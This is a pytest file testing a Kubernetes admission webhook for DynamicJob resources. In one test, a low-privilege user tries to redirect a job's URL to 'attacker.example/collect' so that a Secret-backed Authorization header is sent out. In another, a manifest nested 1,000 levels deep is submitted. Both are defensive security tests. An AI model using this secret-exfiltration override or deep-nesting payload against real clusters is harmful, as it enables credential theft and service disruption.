"""Attacks on admission through the real API server, with real RBAC (issue 8, breaks 1, 2).

Break 1: a user who may patch a DynamicJob but not read the Secret its spec references
must not send that Secret elsewhere through run overrides. Break 2: a DynamicJob nested
1,000 levels deep is refused by the webhook with a message, not a dropped connection.
"""

from __future__ import annotations

import json
import subprocess
from collections.abc import Callable

import pytest
from kubernetes import client

from local_cluster.controlplane import ControlPlane
from tests.kube.dynamicjobs import DynamicJobs
from tests.kube.rbac import grant
from tests.kube.waiting import wait_for

Kubectl = Callable[..., subprocess.CompletedProcess[str]]
pytestmark = pytest.mark.usefixtures("operator")
OVERRIDES = "dynamicjobs.io/run-parameters"


@pytest.fixture
def jobs(api_client: client.ApiClient, namespace: str) -> DynamicJobs:
    return DynamicJobs(api_client, namespace)


def test_overrides_cannot_send_the_specs_secret_to_a_url_of_the_users_choice(
    control_plane: ControlPlane, api_client: client.ApiClient, kubectl: Kubectl, namespace: str,
    jobs: DynamicJobs,
) -> None:
    """Mallory may get and patch DynamicJobs, not read Secrets. Her override names no Secret:
    it only points the job's url at her server, where the spec's Authorization header
    (from a Secret she may not read) would follow."""
    grant(api_client, namespace, "mallory", "run-dynamicjobs", [client.V1PolicyRule(
        api_groups=["dynamicjobs.io"], resources=["dynamicjobs"], verbs=["get", "patch"])])
    jobs.create("hook", template="webhook-trigger", suspend=True, parameters={
        "url": "https://hooks.example.com/deploy", "method": "POST",
        "headers": {"Authorization": {"secretRef": {"name": "deploy-token", "key": "token"}}},
    })
    mallory = control_plane.user_kubeconfig("mallory")
    steal = json.dumps({"url": "https://attacker.example/collect"})

    def annotate() -> subprocess.CompletedProcess[str]:
        return kubectl("annotate", "dj/hook", "-n", namespace, "--overwrite",
                       "dynamicjobs.io/run-requested-at=now", f"{OVERRIDES}={steal}",
                       check=False, kubeconfig=mallory)

    refused = wait_for(lambda: (r := annotate()) and "deploy-token" in r.stderr and r,
                       timeout=30, what="the webhook to refuse mallory's overrides")
    assert refused.returncode != 0
    assert f'metadata.annotations["{OVERRIDES}"]' in refused.stderr
    assert "spec.parameters.headers.Authorization" in refused.stderr
    annotations = jobs.get("hook")["metadata"].get("annotations") or {}
    assert OVERRIDES not in annotations
    assert "dynamicjobs.io/run-requested-at" not in annotations

    # The same run without overrides is hers to request: the spec decides where it goes.
    kubectl("annotate", "dj/hook", "-n", namespace, "--overwrite",
            "dynamicjobs.io/run-requested-at=plain", kubeconfig=mallory)

    grant(api_client, namespace, "mallory", "read-deploy-token", [client.V1PolicyRule(
        api_groups=[""], resources=["secrets"], resource_names=["deploy-token"], verbs=["get"])])
    wait_for(lambda: annotate().returncode == 0, timeout=30,
             what="mallory to be allowed once she may read the Secret")


def _deep_manifest(name: str, namespace: str, depth: int) -> str:
    """As JSON text: Python's own encoder would recurse too deeply."""
    nested = '{"a":' * depth + "{}" + "}" * depth
    return ('{"apiVersion":"dynamicjobs.io/v1alpha1","kind":"DynamicJob","metadata":'
            f'{{"name":"{name}","namespace":"{namespace}"}},"spec":{{"template":"heartbeat",'
            f'"schedule":"0 3 * * *","suspend":true,"parameters":{{"x":{nested}}}}}}}')


def test_the_webhook_refuses_a_job_nested_1000_deep_naming_the_field(
    kubectl: Kubectl, namespace: str, jobs: DynamicJobs,
) -> None:
    refused = kubectl("create", "-f", "-", input=_deep_manifest("deep", namespace, 1000),
                      check=False)
    assert refused.returncode != 0
    assert "denied the request" in refused.stderr, refused.stderr
    assert "spec.parameters: nested deeper than 16 levels" in refused.stderr
    assert kubectl("get", "dj/deep", "-n", namespace, check=False).returncode != 0
    jobs.create("after", schedule="0 3 * * *")
    wait_for(lambda: jobs.is_ready("after"), timeout=60, what="a normal job to be Ready")
